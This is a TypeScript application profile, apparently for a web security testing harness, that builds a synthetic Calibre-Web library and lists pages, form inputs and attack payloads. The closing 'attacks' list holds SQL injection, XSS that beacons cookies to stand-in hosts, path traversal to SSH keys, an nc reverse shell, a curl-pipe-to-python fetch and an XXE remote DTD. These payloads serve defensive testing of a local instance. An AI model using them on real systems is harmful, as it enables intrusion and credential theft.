import type { Application } from "../application.ts";

const password = "Lesesaal!42";

/** Calibre's own schema, as far as Calibre-Web reads it, with sixty books of one text file each. */
const makeLibrary = `
import os, sqlite3, uuid
os.makedirs("library")
db = sqlite3.connect("library/metadata.db")
db.executescript("""
create table authors (id integer primary key, name text not null collate nocase, sort text collate nocase, link text not null default '', unique(name));
create table books (id integer primary key autoincrement, title text not null default 'Unknown' collate nocase, sort text collate nocase,
  timestamp timestamp default current_timestamp, pubdate timestamp default current_timestamp, series_index real not null default 1.0,
  author_sort text collate nocase, isbn text default '' collate nocase, lccn text default '' collate nocase, path text not null default '',
  flags integer not null default 1, uuid text, has_cover bool default 0, last_modified timestamp not null default '2000-01-01 00:00:00+00:00');
create table books_authors_link (id integer primary key, book integer not null, author integer not null, unique(book, author));
create table books_languages_link (id integer primary key, book integer not null, lang_code integer not null, item_order integer not null default 0, unique(book, lang_code));
create table books_plugin_data (id integer primary key, book integer not null, name text not null, val text not null, unique(book, name));
create table books_publishers_link (id integer primary key, book integer not null, publisher integer not null, unique(book));
create table books_ratings_link (id integer primary key, book integer not null, rating integer not null, unique(book, rating));
create table books_series_link (id integer primary key, book integer not null, series integer not null, unique(book));
create table books_tags_link (id integer primary key, book integer not null, tag integer not null, unique(book, tag));
create table comments (id integer primary key, book integer not null, text text not null collate nocase, unique(book));
create table conversion_options (id integer primary key, format text not null collate nocase, book integer, data blob not null, unique(format, book));
create table custom_columns (id integer primary key autoincrement, label text not null, name text not null, datatype text not null,
  mark_for_delete bool default 0 not null, editable bool default 1 not null, display text default '{}' not null, is_multiple bool default 0 not null,
  normalized bool not null, unique(label));
create table data (id integer primary key, book integer not null, format text not null collate nocase, uncompressed_size integer not null, name text not null, unique(book, format));
create table feeds (id integer primary key, title text not null, script text not null, unique(title));
create table identifiers (id integer primary key, book integer not null, type text not null default 'isbn' collate nocase, val text not null collate nocase, unique(book, type));
create table languages (id integer primary key, lang_code text not null collate nocase, link text not null default '', unique(lang_code));
create table library_id (id integer primary key, uuid text not null, unique(uuid));
create table metadata_dirtied (id integer primary key, book integer not null, unique(book));
create table preferences (id integer primary key, key text not null, val text not null, unique(key));
create table publishers (id integer primary key, name text not null collate nocase, sort text collate nocase, link text not null default '', unique(name));
create table ratings (id integer primary key, rating integer check(rating > -1 and rating < 11), link text not null default '', unique(rating));
create table series (id integer primary key, name text not null collate nocase, sort text collate nocase, link text not null default '', unique(name));
create table tags (id integer primary key, name text not null collate nocase, link text not null default '', unique(name));
""")
db.execute("insert into library_id (uuid) values (?)", (str(uuid.uuid4()),))
authors = ["Tove Lindqvist", "Flann O'Dwyer", "Ágota Szabó", "Pilar d'Ors", "Kenji Morita"]
tags = ["Fiction", "Cookery", "Sci-Fi & Fantasy", "Local history", "Poetry", "Computing"]
heads = ["The Salt Road", "Ferry to Nowhere", "Bread, Slowly", "A Field Guide to Fog", "Kitchen Physics", "Letters from Hjo", "What's Left of Winter", "Nine Clocks", "The Lamplighter's Ledger", "Under the Weir"]
for i, name in enumerate(authors, 1):
    last = name.split(" ")[-1]
    db.execute("insert into authors (id, name, sort) values (?,?,?)", (i, name, f"{last}, {name[:-len(last) - 1]}"))
for i, name in enumerate(tags, 1): db.execute("insert into tags (id, name) values (?,?)", (i, name))
for i, name in enumerate(["Harbour Trilogy", "Small Hours"], 1): db.execute("insert into series (id, name, sort) values (?,?,?)", (i, name, name))
for i, name in enumerate(["Tern & Daughters", "Kaleido Verlag"], 1): db.execute("insert into publishers (id, name, sort) values (?,?,?)", (i, name, name))
for i, name in enumerate(["eng", "deu", "spa"], 1): db.execute("insert into languages (id, lang_code) values (?,?)", (i, name))
for i in range(1, 6): db.execute("insert into ratings (id, rating) values (?,?)", (i, i * 2))
for i in range(1, 61):
    author = authors[i % 5]
    title = heads[i % 10] + ("" if i <= 10 else f" {i // 10 + 1}")
    path = f"{author}/{title} ({i})"
    os.makedirs(f"library/{path}", exist_ok=True)
    with open(f"library/{path}/{title} - {author}.txt", "w") as file: file.write("It rained on the quay for eleven days.\\n" * 40)
    db.execute("insert into books (id, title, sort, author_sort, timestamp, pubdate, path, uuid, last_modified, series_index) values (?,?,?,?,?,?,?,?,?,?)",
        (i, title, title, author, f"2025-0{i % 9 + 1}-11 08:00:00+00:00", f"{1950 + i}-03-01 00:00:00+00:00", path, str(uuid.uuid4()), "2025-10-01 00:00:00+00:00", i % 3 + 1))
    db.execute("insert into books_authors_link (book, author) values (?,?)", (i, i % 5 + 1))
    db.execute("insert into books_tags_link (book, tag) values (?,?)", (i, i % 6 + 1))
    db.execute("insert into books_languages_link (book, lang_code) values (?,?)", (i, i % 3 + 1))
    db.execute("insert into books_publishers_link (book, publisher) values (?,?)", (i, i % 2 + 1))
    db.execute("insert into books_ratings_link (book, rating) values (?,?)", (i, i % 5 + 1))
    if i % 4 == 0: db.execute("insert into books_series_link (book, series) values (?,?)", (i, i % 2 + 1))
    db.execute("insert into comments (book, text) values (?,?)", (i, "<p>Found in a box at the harbour sale; the last chapter is <em>missing</em>.</p>"))
    db.execute("insert into data (book, format, uncompressed_size, name) values (?,?,?,?)", (i, "TXT", 1600, f"{title} - {author}"))
    db.execute("insert into identifiers (book, type, val) values (?,?,?)", (i, "isbn", f"97802015{i:05d}"))
db.commit()
`;

/** Points Calibre-Web to the library, and makes a librarian who may edit every book and no settings. */
const settle = `
import os, sqlite3, sys
from werkzeug.security import generate_password_hash
db = sqlite3.connect("app.db")
db.execute("update settings set config_calibre_dir = ?, config_port = ?, config_ratelimiter = 0, config_books_per_page = 8, config_random_books = 2", (os.path.abspath("library"), int(sys.argv[1])))
db.execute("insert into user (name, email, role, password, kindle_mail, locale, sidebar_view, default_language, denied_tags, allowed_tags, denied_column_value, allowed_column_value, view_settings, kobo_only_shelves_sync) "
    "select 'librarian', 'librarian@example.org', 2 | 4 | 8 | 64 | 256, ?, '', locale, sidebar_view, 'all', '', '', '', '', '{}', 0 from user where name = 'admin'", (generate_password_hash("${password}"),))
for name in ["To read", "Book club", "Lent out"]:
    db.execute("insert into shelf (uuid, name, is_public, user_id, created, last_modified) select lower(hex(randomblob(16))), ?, 1, id, '2026-01-05 10:00:00', '2026-01-05 10:00:00' from user where name = 'librarian'", (name,))
db.commit()
`;

const settings = ["cps", "-p", "app.db", "-g", "gdrive.db", "-o", "calibre-web.log"];

/** Calibre-Web, a book library; its visitors look for books, correct what is known of them, and put them on shelves. */
export const calibreweb: Application = {
  name: "calibreweb",
  packages: { pip: ["calibreweb==0.6.27"] },
  files: () => ({ "library.py": makeLibrary, "settle.py": settle }),
  prepare: ({ port }) => [
    ["python3", "library.py"],
    // The first start makes the settings that the script then fills in.
    [...settings, "-s", `admin:${password}`],
    ["python3", "settle.py", String(port)],
  ],
  start: () => [...settings, "-m", "-i", "127.0.0.1"],
  ready: "/login",
  async enter(page, origin) {
    // The rich editor of a description lives in a frame, where visits do not write; without it there is a plain field.
    await page.route(/tinymce\.min\.js/, (route) =>
      route.fulfill({ contentType: "text/javascript", body: "window.tinymce = { init() {} };" }),
    );
    await page.goto(`${origin}/login`);
    await page.fill("#username", "librarian");
    await page.fill("#password", password);
    await page.click("button[name=submit]");
    await page.waitForURL((url) => !url.pathname.startsWith("/login"));
  },
  pages: [
    "/",
    "/advsearch",
    "/admin/book/7",
    "/admin/book/22",
    "/admin/book/33",
    "/admin/book/41",
    "/admin/book/58",
    "/book/13",
    "/shelf/create",
    "/shelf/edit/1",
    "/shelf/edit/2",
    "/category",
  ],
  // Past what breaks something: the many lists of the side bar, which are all alike and leave little time for forms.
  avoid:
    /delete|exchange|\/me\b|magic|send to|convert|download|merge|opds|fetch metadata|forgot|\/(hot|rated|read|unread|discover|archived|formats|language|ratings|publisher|tasks|page)\b/i,
  texts: {
    searches: [
      "salt road",
      "o'dwyer",
      "Szabó",
      "what's left of winter",
      '"nine clocks"',
      "bread, slowly",
      "森田",
      "lamplighter's",
      "poésie",
      "harbour trilogy #2",
      "fog & ferries",
      "d'Ors, Pilar",
      "isbn:9780201500013",
      "Sci-Fi & Fantasy",
      "cookbook (vegetarian)",
      "Krieg und Frieden",
      "war and peace; maude translation",
      "select poems 1950-1975",
      "union street",
      "drop caps typography",
      "100% rye",
      "C++ primer",
      "c#",
      "where the crows sleep",
      "Преступление и наказание",
      "or else / either-or",
      "rating > 4",
      "📚 beach reads",
      "l'étranger",
      "1984",
    ],
    lines: [
      "The Lamplighter's Ledger",
      "O'Dwyer, Flann",
      "Ágota Szabó & Kenji Morita",
      "Fiction, Harbour, Re-read 2026",
      "Tern & Daughters (Reykjavík)",
      "Lent to Noor — back by Easter",
      "Book club: spring '26",
      "Für die Ferien",
      "積ん読",
      "isbn",
      "978-0-201-50013-1",
      "doi",
      "10.1000/182",
      "2.5",
      "Cookery; Bread; Sourdough",
      "Harbour Trilogy",
      "En attendant l'hiver",
      "Dune (½ finished!)",
      "Großdruck / large print",
      "Signed copy <3",
      'Subtitle: "A History of Fog"',
      "Vol. 3 of 4 [missing p. 212–214]",
      "eng, deu",
      "Select Works of the Union Poets",
      "Хармс, Даниил",
      "Not for kids 🔞",
      "T.S.",
      "50% read",
    ],
    long: [
      "<p>Two sisters inherit a lighthouse and the debts that come with it. <strong>Winner of nothing</strong>, loved by everyone who borrowed it.</p>",
      "Scan is crooked between pp. 88 and 97; otherwise fine.\nCover: back flap torn.\nTODO: ask O'Dwyer's estate for the 2nd edition.",
      "It's the kind of novel that says \"just one more chapter\" at 1 a.m.; you'll hate yourself at 7.",
      "Inhalt:\n1. Vom Mehl (S. 9)\n2. Der Sauerteig – »geduldig bleiben!« (S. 31)\n3. Öfen & andere Ungeheuer (S. 77)\nAnhang: Tabellen, 100 g = 3,5 oz",
      "<div>\n<h3>From the publisher</h3>\n<p>Kaleido Verlag, 1974. ISBN&nbsp;3-900000-12-X.</p>\n<ul><li>hardback</li><li>ex-library, stamp on p. 1</li></ul>\n</div>",
      "Replaces the copy that came from the old server (/volume1/books/_incoming/salt_road.txt). Metadata was mangled: title = 'Salt Road, The', author = NULL.",
      "« Il n'y a pas d'amour heureux », disait-elle. Traduction de P. d'Ors ; préface inédite, 12 pages.",
      'Book club questions:\n- Why does Mrs. Hale lie about the clock?\n- "Union" of the two villages: good or bad?\n- Who would you drop from the cast? ;-)\n- Rate it 1-10 (decimals allowed, e.g. 7.5)',
      "第一章から最後まで、雨が降り続ける。静かな傑作。★★★★☆",
      "Recipe p. 54 has a typo: it should read 2% salt (= 20 g per 1000 g flour), not 20%!",
      "For the computing shelf. Chapters on SELECT/INSERT, on shell pipelines (`sort | uniq -c | sort -rn`) and on why you should never parse HTML with a regex. Code: https://example.org/kitchen-physics/src?ch=3&ex=2",
      "Calibre says: 'Conversion options changed from defaults: verbose: 2, output_profile: kindle_pw3'. Looks good on a Kobo too.",
      "<p>El último ferry sale a las 23:40; nadie lo toma. ¿Nadie? — «Nadie», dijo Pilar.</p>",
      "Series order as the author wants it (not as printed!):\n  1 > The Salt Road\n  2 > Ferry to Nowhere\n  1.5 > the short story in 'Small Hours'\nSee her letter of 3/11/1981.",
      "Мама купила эту книгу в Риге в 1968 году. На форзаце надпись: «Не забывай!»",
      "DNF @ 43% :(  Prose is lovely, plot isn't. Someone else may have it -- it's on the blue shelf next to the door; no hurry.",
      "E = mc² is explained twice, ∑ and ∫ not at all. For ages 12+; pictures by K. Morita (© 1990).",
    ],
  },
  attacks: [
    { class: "sql_injection", payload: "salt%' AND (SELECT 5821 FROM (SELECT(SLEEP(6)))wKqe) AND 'hJzP%'='hJzP" },
    {
      class: "sql_injection",
      payload: "-4417') UNION ALL SELECT NULL,name||0x7c||password,NULL,email FROM app_settings.user-- dPjc",
    },
    {
      class: "sql_injection",
      payload: "lindqvist' AND 8213=(CASE WHEN (8213=8213) THEN 8213 ELSE (SELECT 2 UNION SELECT 9) END)-- -",
    },
    {
      class: "sql_injection",
      payload: "9780201500013';UPDATE user SET role=511 WHERE name LIKE 'librarian%';--",
    },
    {
      class: "sql_injection",
      payload: "fog' OR LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2)))) OR 'a'='b",
    },
    {
      class: "sql_injection",
      payload: "ferry'/**/oR/**/substr((sElEcT/**/group_concat(password)/**/fRoM/**/user),1,7)='pbkdf2:'/**/--+",
    },
    {
      class: "xss",
      payload:
        "<details open ontoggle=\"fetch('/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://collect.example/b',t))\">",
    },
    { class: "xss", payload: "Nine Clocks<img/src='x'/onerror=import('//203.0.113.90/k.mjs')>" },
    { class: "xss", payload: '<p>great read</p><a href="jav&#x09;ascript:top[`al`+`ert`](document.cookie)">more</a>' },
    { class: "xss", payload: "'-prompt(window['document']['cookie'])-'</script><script>/*dlx*/confirm(5317)</script>" },
    {
      class: "xss",
      payload:
        '<iframe srcdoc="&lt;script&gt;parent.location=/\\/cw.example/.source+parent.document.cookie&lt;/script&gt;">',
    },
    { class: "path_traversal", payload: "Kenji Morita/../../../../../../../root/.ssh/id_rsa" },
    { class: "path_traversal", payload: "..\\..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts" },
    { class: "path_traversal", payload: "%252e%252e%252f%252e%252e%252f%252e%252e%252fconfig%252fapp.db" },
    { class: "path_traversal", payload: "/library/..;/..;/..;/..;/proc/self/cmdline%00.epub" },
    { class: "command_injection", payload: 'book.epub" ; nc -e /bin/bash 198.51.100.23 4444 ; echo "' },
    { class: "command_injection", payload: "Small Hours$(ebook-convert --version;uname -a>/tmp/.cw)" },
    {
      class: "command_injection",
      payload: "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd | base64').read() }}",
    },
    {
      class: "command_injection",
      payload: "__import__('subprocess').check_output(['sh','-c','curl -s 198.51.100.23/cps.py|python3'])",
    },
    {
      class: "xxe",
      payload:
        '<!DOCTYPE package [<!ENTITY % opf SYSTEM "http://198.51.100.23:8000/evil.dtd"> %opf;]><package><metadata>&leak;</metadata></package>',
    },
  ],
};
